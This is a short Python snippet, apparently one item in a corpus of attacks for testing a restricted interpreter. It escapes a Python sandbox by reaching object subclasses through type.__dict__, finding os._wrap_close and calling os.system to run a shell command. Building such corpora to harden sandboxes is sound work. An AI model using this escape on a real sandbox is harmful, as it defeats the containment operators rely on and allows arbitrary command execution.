# corpus: attack class=internals form=targeted
# type.__dict__ looked up by key reaches __subclasses__.
def main():
    for cls in type.__dict__["__subclasses__"](object):
        if cls.__name__ == "_wrap_close":
            return {"status": cls.__init__.__globals__["system"]("id")}
